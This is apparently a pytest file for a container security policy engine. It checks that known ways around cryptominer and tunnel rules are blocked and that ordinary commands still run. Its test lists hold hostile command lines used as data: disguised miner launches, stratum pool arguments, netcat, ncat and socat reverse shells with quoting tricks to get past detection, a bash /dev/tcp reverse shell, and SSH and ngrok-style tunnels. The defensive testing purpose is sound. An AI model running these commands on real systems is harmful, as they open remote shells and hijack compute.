"""The built-in default policy against known bypasses of public miner / tunnel
rules, and against ordinary work it must leave alone.

Each exec is judged the way it is judged live: first the kernel tables
(emulated by exec_verdict, which mirrors ebpf/exec.c), then, for an exec
the kernel let through, the engine's user-space rules.
"""

from __future__ import annotations

import pytest
from test_engine import AGENT_ID, header

from pycontain.core.decisions import Action
from pycontain.core.engine import Engine
from pycontain.core.events import EventType, ExecEvent, Verdict
from pycontain.core.kernel_rules import compile_policy, exec_verdict
from pycontain.core.policy import builtin_policy


@pytest.fixture(scope="module", params=["default", "strict"])
def judge(request):
    policy = builtin_policy(request.param)
    tables = compile_policy(policy)

    def run(filename: str, argv: list[str]) -> str | None:
        """The rule that stops this exec, or None when it may run."""
        rid = exec_verdict(tables, filename=filename, argv=argv)
        e = Engine(policy)
        e.add_agent(AGENT_ID, "a")
        ev = ExecEvent(h=header(EventType.EXEC, verdict=Verdict.DENY if rid else Verdict.ALLOW, rule_id=rid),
                       filename=filename.encode(), argv=tuple(a.encode() for a in argv), argc=len(argv))
        ds = e.on_event(ev, 1.0)
        stops = [d for d in ds if d.action in (Action.DENY, Action.KILL_PROCESS, Action.KILL)]
        return stops[0].rule if stops else None
    run.policy = request.param
    return run


STOPPED = [
    # miners by real file name: case, argv[0] lies, renamed builds
    ("/tmp/xmrig", ["xmrig", "-o", "x"]),
    ("/tmp/XMRIG", ["XMRIG"]),
    ("/tmp/.x/xmrig", ["[kworker/0:1]"]),                         # argv[0] pretends to be a kernel thread
    ("/opt/xmr-stak-rx", ["xmr-stak-rx"]),
    ("/tmp/SRBMiner-MULTI", ["SRBMiner-MULTI"]),
    # pool URLs and miner arguments in any case and form
    ("/usr/bin/python3", ["python3", "m.py", "-o", "StRaTuM+TcP://198.51.100.1:3333"]),
    ("/usr/bin/python3", ["python3", "m.py", "--url=stratum2+tcp://h:1"]),
    ("/usr/bin/python3", ["python3", "m.py", "-o", "stratum+ssl://h:443"]),
    ("/usr/bin/python3", ["python3", "m.py", "-ostratum1+tcp://h:1"]),
    ("/usr/bin/python3", ["python3", "m.py", "--donate-level", "0"]),
    ("/usr/bin/python3", ["python3", "m.py", "-a", "rx/0"]),
    ("/usr/bin/python3", ["python3", "m.py", "--coin", "monero"]),
    ("/usr/bin/python3", ["python3", "m.py", "-o", "pool.example.net:3333"]),
    ("/usr/bin/python3", ["python3", "m.py", "-u", "4" + "A" + "x" * 93 + ".rig1"]),
]
STOPPED_DEFAULT_ONLY = [
    # reverse tunnels: glued, clustered, -o forms, options after the destination
    ("/usr/bin/ssh", ["ssh", "-NfR", "2222:localhost:22", "198.51.100.1"]),
    ("/usr/bin/ssh", ["ssh", "-fNR2222:localhost:22", "h"]),
    ("/usr/bin/ssh", ["ssh", "-oRemoteForward=2222 localhost:22", "h"]),
    ("/usr/bin/ssh", ["ssh", "-o", "remoteforward 2222 localhost:22", "h"]),
    ("/usr/bin/ssh", ["ssh", "-oDynamicForward=1080", "h"]),
    ("/usr/bin/ssh", ["ssh", "h", "-R", "2222:localhost:22"]),
    ("/usr/bin/ssh", ["ssh", "-D1080", "h"]),
    ("/usr/bin/ssh", ["ssh", "-o", "Tunnel=point-to-point", "-w", "0:0", "h"]),
    ("/usr/bin/ssh", ["sshd: user@pts/0", "-R", "1:h:2", "h"]),     # argv[0] lies, the file is ssh
    ("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "198.51.100.1", "4444"]),
    ("/bin/busybox", ["nc", "-lp", "4444", "-e", "/bin/sh"]),
    ("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "h", "1"]),
    ("/usr/bin/ncat", ["ncat", "--sh-exec", "sh", "h", "1"]),
    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "EXEC:/bin/bash"]),
    # socat unquotes an address before it reads the keyword; SHELL: is 1.8's
    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "EX'E'C:/bin/bash,pty,stderr,setsid"]),
    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", '"EXEC":/bin/bash']),
    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "SYS\\TEM:bash -li,pty,stderr"]),
    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "SHELL:bash -li,pty,stderr"]),
    # bundled short options and getopt_long prefixes
    ("/usr/bin/ncat", ["ncat", "-ve", "/bin/sh", "h", "1"]),
    ("/usr/bin/ncat", ["ncat", "-vc", "sh -i", "h", "1"]),
    ("/usr/bin/ncat", ["ncat", "-ke/bin/sh", "-l", "1"]),
    ("/usr/bin/ncat", ["ncat", "--exe", "/bin/sh", "h", "1"]),
    ("/usr/bin/ncat", ["ncat", "--e=/bin/sh", "h", "1"]),
    ("/usr/bin/ncat", ["ncat", "--sh", "sh -i", "h", "1"]),
    ("/usr/bin/ncat", ["ncat", "--lua", "x.lua", "h", "1"]),
    ("/usr/bin/nc.traditional", ["nc", "-vc", "sh", "h", "1"]),
    ("/usr/bin/netcat", ["netcat", "-vc", "sh", "h", "1"]),
    ("/usr/bin/netcat", ["netcat", "--exec=/bin/sh", "h", "1"]),
    ("/usr/bin/nc", ["nc", "--sh", "sh -i", "h", "1"]),
    ("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"]),
    # tunnelling tools
    ("/usr/local/bin/ngrok", ["ngrok", "tcp", "22"]),
    ("/usr/local/bin/cloudflared", ["cloudflared", "tunnel", "run"]),
    ("/usr/local/bin/lt", ["lt", "--port", "8000"]),
    ("/usr/local/bin/chisel", ["chisel", "client", "h:1", "R:2222:localhost:22"]),
    ("/usr/bin/autossh", ["autossh", "-M", "0", "h"]),
]

ORDINARY = [
    ("/usr/bin/ssh", ["ssh", "host", "uptime"]),
    ("/usr/bin/ssh", ["ssh", "-p", "2222", "host", "grep", "-R", "x", "/"]),
    ("/usr/bin/ssh", ["ssh", "-l", "-Rlooks-like-a-flag", "host"]),    # a login name, not a forward
    ("/usr/bin/ssh", ["ssh", "-L", "8080:localhost:80", "host"]),
    ("/usr/bin/ssh", ["ssh", "-i", "/root/.ssh/id_ed25519", "git@github.com"]),
    ("/usr/bin/git", ["git", "clone", "https://github.com/x/y.git"]),
    ("/usr/bin/git", ["git", "push", "origin", "main"]),
    ("/usr/bin/curl", ["curl", "-fsSL", "https://pypi.org/simple/torch/"]),
    ("/usr/bin/wget", ["wget", "https://example.org/data.tar.gz"]),
    ("/usr/bin/python3", ["python3", "train.py", "--algo=ppo", "--lr", "3e-4"]),
    ("/usr/bin/python3", ["python3", "-m", "pip", "install", "numpy"]),
    ("/usr/bin/pip", ["pip", "download", "threadpoolctl"]),
    ("/usr/bin/grep", ["grep", "-R", "pool", "."]),
    ("/usr/bin/dig", ["dig", "example.org"]),
    ("/usr/bin/ncdu", ["ncdu", "-e", "/data"]),
    ("/usr/bin/nc", ["nc", "-zv", "host", "22"]),
    ("/bin/busybox", ["busybox", "wget", "https://example.org/"]),
    ("/usr/bin/socat", ["socat", "TCP-LISTEN:8080", "TCP:localhost:80"]),
    ("/usr/bin/make", ["make", "-j8"]),
    ("/usr/bin/nvidia-smi", ["nvidia-smi", "-q"]),
    ("/usr/bin/ls", ["ls", "-lR"]),
]


@pytest.mark.parametrize("filename,argv", STOPPED, ids=lambda v: v if isinstance(v, str) else " ".join(v)[:60])
def test_miners_are_stopped(judge, filename, argv):
    assert judge(filename, argv) is not None


@pytest.mark.parametrize("filename,argv", STOPPED_DEFAULT_ONLY,
                         ids=lambda v: v if isinstance(v, str) else " ".join(v)[:60])
def test_tunnels_and_reverse_shells_are_stopped(judge, filename, argv):
    rule = judge(filename, argv)
    if judge.policy == "default":
        assert rule is not None
    elif "ssh" in filename or "/dev/tcp" in " ".join(argv) or filename.rsplit("/", 1)[-1] in (
            "ngrok", "cloudflared", "chisel", "autossh"):
        assert rule is not None       # strict names these too


@pytest.mark.parametrize("filename,argv", ORDINARY, ids=lambda v: v if isinstance(v, str) else " ".join(v)[:60])
def test_ordinary_work_runs(judge, filename, argv):
    assert judge(filename, argv) is None
